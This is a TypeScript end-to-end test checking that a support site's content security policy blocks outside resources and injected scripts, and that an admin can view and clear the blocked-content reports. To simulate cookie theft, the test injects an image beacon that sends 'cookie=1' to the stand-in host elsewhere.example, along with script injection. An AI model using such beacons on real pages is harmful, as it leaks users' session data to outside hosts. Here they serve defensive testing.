import { setTimeout as pause } from 'node:timers/promises';
import type { Browser } from 'playwright-core';
import { agentClient } from '../support/agent';
import { launchBrowser, visit } from '../support/browser';
import { signInToAdmin } from '../support/desk';
import { startApp, type RunningApp } from '../support/running-app';

jest.setTimeout(120_000);
let app: RunningApp;
let browser: Browser;
beforeAll(async () => {
  [app, browser] = await Promise.all([startApp(), launchBrowser()]);
});
afterAll(async () => {
  await browser?.close();
  await app?.stop();
});

interface Line {
  directive: string;
  blocked: string;
  page: string;
}
const listed = async (): Promise<Line[]> => {
  const max = await agentClient(app, 'max@example.com');
  // Browsers report when they have time for it.
  for (let tries = 0; tries < 60; tries += 1) {
    const { data } = await max.blocked<Line>();
    if (data.length >= 2) return data;
    await pause(1000);
  }
  return [];
};

test('what gets into a page from elsewhere is not loaded, a script does not run, and an admin reads of both', async () => {
  const { page, context } = await visit(browser, { baseURL: app.url });
  await page.goto('/support/search?q=rain');
  const ran = await page.evaluate(`(async () => {
    const picture = new Image();
    document.body.append(picture);
    picture.src = 'http://elsewhere.example/stolen.png?cookie=1';
    const script = document.createElement('script');
    try { script.textContent = 'window.ran = true'; } catch {}
    document.body.append(script);
    let refused = false;
    try { document.body.innerHTML += '<b>x</b>'; } catch { refused = true; }
    await new Promise((resolve) => setTimeout(resolve, 200));
    return [Boolean(window.ran), refused];
  })()`);
  expect(ran).toEqual([false, true]);
  await context.close();
  const lines = await listed();
  expect(lines.map(({ directive, blocked, page: where }) => [directive, blocked, where])).toContainEqual(['img-src', 'http://elsewhere.example/stolen.png', '/support/search']);
  expect(lines.some(({ directive }) => directive === 'require-trusted-types-for' || directive.startsWith('script-src'))).toBe(true);

  const desk = await visit(browser, { baseURL: app.url });
  await signInToAdmin(desk.page, 'max@example.com');
  await desk.page.goto('/admin/settings/portal/blocked-content');
  await desk.page.getByText('http://elsewhere.example/stolen.png').waitFor();
  await desk.page.getByRole('button', { name: 'Clear the list' }).click();
  await desk.page.getByText('Browsers have blocked nothing.').waitFor();
  await desk.context.close();
});
